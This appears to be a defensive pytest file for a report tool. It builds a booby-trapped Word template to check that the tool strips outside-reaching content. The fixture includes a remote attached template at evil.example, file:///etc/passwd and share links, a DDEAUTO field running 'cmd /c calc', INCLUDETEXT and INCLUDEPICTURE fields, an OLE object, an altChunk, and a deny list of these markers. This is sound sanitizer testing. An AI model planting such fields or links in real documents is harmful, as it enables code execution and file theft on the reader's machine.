"""A council's Word template keeps only what stays inside the pack: an attached template
Word would fetch on opening, external links, fields that include files or programs, OLE
objects and altChunk parts are removed (each named in one warning), run as a user runs
reportgen, each build within 10 seconds and 500 MB."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import docx
from test_hostile import MEGABYTES, SECONDS, Ran, run_bounded

from conftest import INDICATORS, OBSERVATIONS, REPORT

HEADER, FOOTER = "Fernshire County Council - OFFICIAL", "County Hall, Fernbridge"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ATTACHED = "https://evil.example/templates/" + "a" * 200 + "/Normal.dotm"
PASSWD = "file:///etc/passwd"
SHARE = "file://///fileserver/share/secret.docx"
RELS_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
)
# What no part of a pack built on the template may hold.
OUTSIDE = (
    'TargetMode="External"',
    "attachedTemplate",
    "INCLUDETEXT",
    "INCLUDEPICTURE",
    "DDEAUTO",
    "oleObject",
    "OLEObject",
    "<w:object",
    "altChunk",
    "aFChunk",
    "evil.example",
    "/etc/passwd",
    "fileserver",
)


def rels(*entries: tuple[str, str, str, bool]) -> bytes:
    """Return a relationships part holding (id, type, target, external) entries."""
    body = "".join(
        f'<Relationship Id="{id_}" Type="{REL}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for id_, kind, target, external in entries
    )
    return (RELS_HEAD + body + "</Relationships>").encode()


def add_rels(parts: dict[str, bytes], name: str, *entries: tuple[str, str, str, bool]) -> None:
    """Add relationships to a part's relationships part (made if it has none)."""
    if name not in parts:
        parts[name] = rels(*entries)
        return
    extra = rels(*entries).decode().split(RELS_HEAD)[1].removesuffix("</Relationships>")
    parts[name] = parts[name].replace(b"</Relationships>", extra.encode() + b"</Relationships>")


def inserted(part: bytes, before: str, xml: str) -> bytes:
    """Return a part's XML with `xml` put before the first `before` (and the relationships'
    namespace declared on its root, if it is not)."""
    text = part.decode()
    if "xmlns:r=" not in text and "<w:" in text:
        root = text.index("<w:", text.index("?>"))
        text = text[:root] + text[root:].replace(" ", f" {R} ", 1)
    at = text.index(before)
    return (text[:at] + xml + text[at:]).encode()


def complex_field(instruction: str, result: str) -> str:
    """Return the runs of a field Word reads from its begin, instruction, separate and end."""
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{result}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def hostile_template() -> bytes:
    """Return a real python-docx template with every kind of thing reaching outside it: an
    attached template on the web, file: links in its header, fields that include files or
    start programs in its footer, an OLE object and an altChunk part."""
    document = docx.Document()
    section = document.sections[0]
    section.header.paragraphs[0].text = HEADER
    section.footer.paragraphs[0].text = FOOTER
    buffer = io.BytesIO()
    document.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    header = next(n for n in parts if re.fullmatch(r"word/header\d*\.xml", n))
    footer = next(n for n in parts if re.fullmatch(r"word/footer\d*\.xml", n))

    # Word fetches the attached template when the document opens.
    parts["word/settings.xml"] = inserted(
        parts["word/settings.xml"],
        "<w:defaultTabStop",
        '<w:attachedTemplate r:id="rIdOut1"/>',
    )
    add_rels(parts, "word/_rels/settings.xml.rels", ("rIdOut1", "attachedTemplate", ATTACHED, True))
    # Links to files on this machine and a share, in the header every page shows.
    parts[header] = inserted(
        parts[header],
        "</w:p>",
        '<w:hyperlink r:id="rIdOut2"><w:r><w:t>Intranet</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rIdOut3"><w:r><w:t>Share</w:t></w:r></w:hyperlink>'
        + complex_field('DDEAUTO cmd "/c calc"', "Started"),
    )
    add_rels(
        parts,
        header.replace("word/", "word/_rels/") + ".rels",
        ("rIdOut2", "hyperlink", PASSWD, True),
        ("rIdOut3", "hyperlink", SHARE, True),
    )
    # Fields that include a file's text or picture when they update.
    parts[footer] = inserted(
        parts[footer],
        "</w:p>",
        '<w:fldSimple w:instr=" INCLUDETEXT &quot;C:\\\\secret.docx&quot; ">'
        "<w:r><w:t>Included text</w:t></w:r></w:fldSimple>"
        + complex_field('INCLUDEPICTURE "http://evil.example/p.png"', "Picture"),
    )
    # An OLE object and an altChunk part in the body: their parts stay with the template's.
    parts["word/document.xml"] = inserted(
        parts["word/document.xml"],
        "<w:sectPr",
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        'Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" '
        'r:id="rIdOle1"/></w:object></w:r></w:p>'
        '<w:altChunk r:id="rIdChunk1"/>',
    )
    add_rels(
        parts,
        "word/_rels/document.xml.rels",
        ("rIdOle1", "oleObject", "embeddings/oleObject1.bin", False),
        ("rIdChunk1", "aFChunk", "afchunk.mht", False),
    )
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0" + b"\0" * 60
    parts["word/afchunk.mht"] = b"MIME-Version: 1.0\r\n\r\n<html>outside</html>"
    parts["[Content_Types].xml"] = inserted(
        parts["[Content_Types].xml"],
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.'
        'oleObject"/><Override PartName="/word/afchunk.mht" ContentType="message/rfc822"/>',
    )
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return output.getvalue()


def build(tmp_path: Path, *options: str) -> tuple[Ran, Path]:
    """Build the Word pack on the hostile template as a user does; return the run and the
    report's folder."""
    folder = tmp_path / "report"
    folder.mkdir()
    (folder / "report.yaml").write_text(REPORT + "word_template: council.docx\n")
    (folder / "indicators.csv").write_text(INDICATORS)
    (folder / "observations.csv").write_text(OBSERVATIONS)
    (folder / "council.docx").write_bytes(hostile_template())
    ran = run_bounded(folder, ("build", "report.yaml", "--format", "docx", *options))
    assert ran.seconds < SECONDS, ran
    assert ran.megabytes < MEGABYTES, ran
    assert "Traceback" not in ran.stderr, ran.stderr
    return ran, folder


def warning_of(ran: Ran) -> str:
    """Return the one line of the run's output naming what was removed from the template."""
    lines = [line for line in ran.stderr.splitlines() if "reaches outside" in line]
    assert len(lines) == 1, ran.stderr
    return lines[0]


def test_a_template_keeps_only_what_stays_inside_the_pack(tmp_path: Path) -> None:
    ran, folder = build(tmp_path)
    assert ran.code == 0, ran.stderr
    line = warning_of(ran)
    assert "council.docx: removed the attached template at 'https://evil.example/" in line
    assert "a" * 100 not in line  # the long address echoed at a bounded length
    assert f"2 external links ('{PASSWD}', '{SHARE}')" in line
    assert "1 DDEAUTO field" in line
    assert "1 INCLUDETEXT field" in line
    assert "1 INCLUDEPICTURE field" in line
    assert "1 OLE object ('word/embeddings/oleObject1.bin')" in line
    assert "1 altChunk part ('word/afchunk.mht')" in line
    assert line.endswith(": a pack keeps nothing that reaches outside it")
    (pack,) = [p for p in folder.rglob("*.docx") if p.name != "council.docx"]
    with zipfile.ZipFile(pack) as archive:
        names = archive.namelist()
        text = {name: archive.read(name).decode("utf-8", "replace") for name in names}
    assert not [n for n in names if "embeddings" in n or "afchunk" in n], names
    for name, part in text.items():
        for outside in OUTSIDE:
            assert outside not in part, (name, outside)
    shown = "".join(text[n] for n in names if re.fullmatch(r"word/(header|footer)\d*\.xml", n))
    # The template's header and footer stay, links' and fields' shown text with them.
    for words in (HEADER, FOOTER, "Intranet", "Share", "Started", "Included text", "Picture"):
        assert words in shown, words
    assert docx.Document(pack).sections[0].header.paragraphs[0].text.startswith(HEADER)


def test_under_strict_what_reaches_outside_stops_the_build(tmp_path: Path) -> None:
    ran, folder = build(tmp_path, "--strict")
    assert ran.code == 2, ran.stderr
    assert "removed the attached template at" in warning_of(ran)
    assert [p.name for p in folder.rglob("*.docx")] == ["council.docx"]
